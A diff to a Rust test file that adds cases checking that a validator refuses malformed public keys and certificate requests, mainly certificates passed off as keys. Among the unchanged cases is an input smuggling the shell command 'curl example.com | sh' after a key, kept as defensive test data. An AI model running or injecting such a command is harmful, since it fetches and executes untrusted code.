@@ -1,6 +1,13 @@
 //! What somebody tries first who wants to be another node, the server, or an administrator: each made here, and each refused.
 
+use x509_parser::prelude::{FromDer as _, X509Certificate};
+
 use super::*;
+
+/// A certificate of the node itself, for a key that would be a good one.
+fn certificate() -> String {
+    params(NODE).self_signed(rsa_pair()).unwrap().pem()
+}
 
 /// A text of 1 MiB.
 const MIB: usize = 1 << 20;
@@ -32,7 +39,11 @@ fn keys() -> Vec<(&'static str, String, &'static str)> {
         ("1 MiB of good keys", good.repeat(MIB / good.len()), "too_long"),
         ("1 MiB of spaces and a good key", format!("{}{good}", " ".repeat(MIB)), "too_long"),
         ("an elliptic key", p256().public_key_pem(), "wrong_algorithm"),
-        ("a certificate", good.replace("PUBLIC KEY", "CERTIFICATE"), "wrong_label"),
+        ("a certificate", certificate(), "wrong_label"),
+        ("a certificate behind the public key", format!("{good}{}", certificate()), "not_one_block"),
+        ("a certificate before the public key", format!("{}{good}", certificate()), "not_one_block"),
+        ("a certificate under the public label", block("PUBLIC KEY", &pem::parse(certificate()).unwrap().into_contents()), "bad_der"),
+        ("a public key that is called a certificate", good.replace("PUBLIC KEY", "CERTIFICATE"), "wrong_label"),
         ("an OpenSSH key", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC root@web".to_owned(), "not_pem"),
         ("a script behind it", format!("{good}; curl example.com | sh"), "not_pem"),
         ("a comment before it", format!("# web\n{good}"), "not_pem"),
@@ -65,6 +76,8 @@ fn requests() -> Vec<(&'static str, String, &'static str)> {
         ("two requests", format!("{honest}{honest}"), "not_one_block"),
         ("a private key behind it", format!("{honest}{}", p256().serialize_pem()), "private_key"),
         ("a public key", good_key(), "wrong_label"),
+        ("a certificate", certificate(), "wrong_label"),
+        ("a certificate behind it", format!("{honest}{}", certificate()), "not_one_block"),
         ("1 MiB of PEM", block("CERTIFICATE REQUEST", &vec![0x30; MIB]), "too_long"),
         ("DER in the place of PEM", base64(&pem::parse(&honest).unwrap().into_contents()), "not_pem"),
     ]
@@ -74,6 +87,11 @@ fn requests() -> Vec<(&'static str, String, &'static str)> {
 fn what_somebody_tries_first_is_refused_with_a_reason_that_does_not_repeat_it() {
     let (keys, requests) = (keys(), requests());
     assert!(keys.len() + requests.len() >= 30);
+    // What is called a certificate here is one, and would be taken for a good key by whoever reads the key out of it.
+    let certificate = pem::parse(certificate()).unwrap().into_contents();
+    let (rest, read) = X509Certificate::from_der(&certificate).unwrap();
+    read.verify_signature(None).unwrap();
+    assert!(rest.is_empty() && *read.public_key().raw == pem::parse(rsa_pair().public_key_pem()).unwrap().into_contents());
     for (name, value, code) in keys {
         assert_eq!(refused(&chef(&value)).0, code, "{name}");
         let said = format!("{:?}", chef(&value));
